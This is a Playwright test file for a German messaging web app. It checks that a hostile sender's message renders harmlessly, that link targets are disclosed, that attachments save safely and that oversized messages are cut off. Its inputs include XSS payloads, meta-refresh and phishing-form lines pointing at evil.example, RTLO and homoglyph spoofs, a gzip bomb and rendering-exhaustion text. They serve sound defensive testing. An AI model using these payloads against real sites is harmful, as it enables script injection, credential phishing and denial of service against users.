// A sender who means harm, with all that a message can carry: the reader's page runs nothing, loads nothing, says where
// links lead, and goes on answering.

import { expect, test } from '@playwright/test';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync, unzipSync } from 'fflate';
import { MIB, isSafeName, makeFile, sha256 } from '../support/files.ts';
import { partner, staff } from '../support/people.ts';
import { Person } from '../support/person.ts';
import { stage } from '../support/stage.ts';
import { describe, measured } from '../support/watch.ts';

const RUNS = [
  '<script>window.harmed = 1</script>',
  '<img src=x onerror="window.harmed = 1">',
  '<svg onload="window.harmed = 1"><animate onbegin="window.harmed = 1"></svg>',
  '<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>',
  '<style>@import "https://tracker.example/a.css"; body { display: none }</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="password" autofocus></form>',
  '[Skript](javascript:window.harmed=1) [Daten](data:text/html,<script>window.harmed=1</script>)',
  'Rechnung\u202Egpj.exe',
  `${'> '.repeat(60)}tief`,
  '![Zähler](https://tracker.example/pixel.png) <link rel="preload" href="https://tracker.example/b">',
];
const LINKS = [
  '[https://www.kbs.de/anmelden](https://evil.example/anmelden)',
  '[zum Formular](https://www.kbs.de@evil.example/formular)',
  '<https://www.kbѕ.de>',
  '[b\u202Egnp.exe](https://evil.example/b)',
];
const SPOOFS = 'Betreff \u202Eneppat \u2066geheim\u2069 \u200B<b onclick="window.harmed=1">fett</b>';

test('markup, links and names of a hostile sender stay harmless', async ({ browser }) => {
  const sender = await Person.at(browser, staff);
  await sender.signIn();
  await sender.goTo('Neue Nachricht');
  await sender.addRecipient(partner.address, 'Postfach vorhanden');
  await sender.write(SPOOFS, [...RUNS, ...LINKS].join('\n\n'));
  // Equal names, and one file that is a bomb for whoever unpacks it.
  const equal = Array.from({ length: 49 }, (_, index) => {
    const file = makeFile('Bescheid.pdf', 100 + index, `%PDF-1.7\n${index}\n`);
    const path = join(dirname(file.path), `${index}`, 'Bescheid.pdf');
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, file.bytes);
    return { ...file, path };
  });
  const bomb = makeFile('Bombe.gz', 0);
  bomb.bytes = Buffer.from(gzipSync(new Uint8Array(256 * MIB), { level: 9 }));
  writeFileSync(bomb.path, bomb.bytes);
  expect(bomb.bytes.length).toBeLessThan(MIB);
  await sender.attach(...equal.map((file) => file.path), bomb.path);
  await sender.awaitUploads(50);
  await sender.send();
  await sender.leave();

  const reader = await Person.at(browser, partner);
  await reader.signIn();
  const before = reader.watch.requests.length;
  await reader.row('fett').first().click();
  await expect(reader.page.getByText('Absender geprüft')).toBeVisible();
  await expect(reader.heading(/^Betreff neppat geheim/), 'nothing turns a subject round').toBeVisible();
  const text = reader.page.locator('.prose');
  for (const source of RUNS.slice(0, 7)) await expect(text, 'markup is text').toContainText(source.slice(0, 20));
  await expect(text.locator('script, img, svg, iframe, style, base, meta, form, input, link, [onclick]')).toHaveCount(0);
  await expect(text, 'nothing turns words round').toContainText('Rechnunggpj.exe');
  for (const kind of ['phone', 'desktop'] as const) {
    await reader.show({ kind, theme: 'light', language: 'de' });
    const wider = await reader.page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(wider, `quotes within quotes, ${kind}`).toBeLessThanOrEqual(0);
  }
  const hrefs = await text.locator('a').evaluateAll((all) => all.map((it) => it.getAttribute('href') ?? ''));
  expect(hrefs.filter((href) => !/^https:/.test(href))).toEqual([]);
  const said = await text.locator('a').allInnerTexts();
  expect(said.map((it) => /\(([^()]+)\)/.exec(it)?.[1]), 'where each leads').toEqual([
    // What the style sheet would have loaded is an address in the text, and says only that it opens elsewhere.
    'öffnet in neuem Fenster',
    'evil.example', 'evil.example', 'www.xn--kb-foc.de', 'evil.example',
  ]);
  await reader.look('hostile');

  const archive = await reader.save(reader.button('Alle speichern'));
  const contents = Object.entries(unzipSync(archive.bytes));
  expect(contents.map(([, bytes]) => sha256(bytes)).sort()).toEqual([...equal, bomb].map((file) => sha256(file.bytes)).sort());
  for (const [name] of contents) expect(isSafeName(name), name).toBe(true);

  expect(await reader.page.evaluate(() => 'harmed' in window)).toBe(false);
  const elsewhere = reader.watch.requests.slice(before).map((request) => request.url());
  expect(elsewhere.filter((url) => !url.startsWith(stage().url) && !url.startsWith('blob:')), 'nothing is loaded from elsewhere').toEqual([]);
  await reader.leave();
});

test('a message made to stop the page is cut off, and the page goes on answering', async ({ browser }) => {
  const sender = await Person.at(browser, staff);
  const monsters: [string, string][] = [
    ['Riesige Tabelle', `|a|b|c|\n|-|-|-|\n${'|x|y|z|\n'.repeat(30_000)}`],
    ['Tiefe Schachtel', `${'>'.repeat(60_000)} unten\n${'* '.repeat(20_000)}Liste\n${'['.repeat(40_000)}\n${'*_'.repeat(40_000)}`],
    ['Ein einziges Wort', 'W'.repeat(400_000)],
  ];
  await sender.signIn();
  for (const [subject, text] of monsters) {
    await sender.goTo('Neue Nachricht');
    await sender.addRecipient(partner.address, 'Postfach vorhanden');
    await sender.field('Betreff').fill(subject);
    // As pasted: to type so much would measure the test.
    await sender.field('Nachricht').evaluate((area, text) => {
      (area as HTMLTextAreaElement).value = text;
      area.dispatchEvent(new InputEvent('input', { bubbles: true }));
    }, text);
    await sender.button('Senden').click();
    await expect(sender.heading('Gesendet')).toBeVisible({ timeout: 60_000 });
    await expect(sender.row(subject)).toBeVisible();
  }
  await sender.leave();

  const reader = await Person.at(browser, partner);
  await reader.signIn();
  for (const [subject] of monsters) {
    await reader.goTo('Posteingang');
    const cost = await measured(browser, reader.page, () => reader.read(subject));
    console.log(`${subject}: ${describe(cost)}`);
    await expect(reader.page.locator('.prose *').nth(5_000)).toHaveCount(0);
    await expect(reader.page.getByText('hier steht nur sein Anfang')).toBeVisible();
    await reader.button('Antworten').click();
    await expect(reader.heading('Antwort')).toBeVisible();
    await reader.goTo('Posteingang');
  }
  await reader.read('Ein einziges Wort');
  await reader.look('message-cut');
  await reader.button('Ganzen Text ohne Gestaltung anzeigen').click();
  await expect(reader.page.locator('.prose__all')).toHaveText('W'.repeat(400_000));
  await reader.leave();
});
